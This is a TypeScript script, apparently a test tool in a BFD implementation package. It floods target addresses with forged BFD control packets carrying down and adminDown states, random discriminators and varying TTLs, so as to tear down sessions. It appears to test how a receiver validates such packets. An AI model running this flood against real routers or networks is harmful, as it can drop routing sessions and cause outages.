/** Sends BFD packets that would end a session: `forge-bfd.ts FROM TO…`, until it is stopped; then prints how many. */
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { type ControlPacket, encodeControl } from "#pkg/bfd/testing";

const [from = "", ...ends] = process.argv.slice(2);
const perTurn = 50;
const socket = createSocket("udp4");
socket.bind(49_152, from);
await once(socket, "listening");

const packet: ControlPacket = {
  diagnostic: 0,
  state: "down",
  poll: false,
  final: false,
  controlPlaneIndependent: false,
  demand: false,
  multiplier: 3,
  myDiscriminator: 1,
  yourDiscriminator: 0,
  desiredMinTx: 50,
  requiredMinRx: 50,
  requiredMinEchoRx: 0,
};
const any = () => 1 + Math.floor(Math.random() * 0xffff_fffe);
let sent = 0;
const forge = (): void => {
  const round = Math.floor(sent / perTurn);
  socket.setTTL(round % 4 === 3 ? 64 : 255);
  for (let i = 0; i < perTurn; i++, sent++) {
    const state = i % 2 === 0 ? "down" : "adminDown";
    const yourDiscriminator = round % 4 === 2 ? any() : 0;
    const octets = encodeControl({ ...packet, state, myDiscriminator: any(), yourDiscriminator });
    for (const to of ends) socket.send(octets, 3784, to);
  }
};
console.log("sending");
const timer = setInterval(forge, 2);
await once(process, "SIGTERM");
clearInterval(timer);
console.log(`sent ${sent}`);
socket.close();
